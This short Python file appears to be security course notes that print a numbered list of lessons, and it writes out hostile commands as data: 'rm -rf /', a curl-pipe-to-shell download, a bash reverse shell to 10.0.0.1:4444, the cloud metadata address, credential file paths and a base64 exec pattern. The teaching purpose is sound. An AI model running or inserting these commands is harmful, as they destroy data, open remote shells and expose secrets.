"""Notes for the security course.

rm -rf / and curl http://x | sh are dangerous; so is os.system("...").
"""
LESSONS = [
    "Never run `rm -rf /`",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 opens a reverse shell",
    "The metadata service lives at 169.254.169.254",
    "Protect ~/.ssh/id_rsa and /etc/shadow",
]
# exec(base64.b64decode(...)) hides code
for i, lesson in enumerate(LESSONS, 1):
    print(f"{i}. {lesson}")
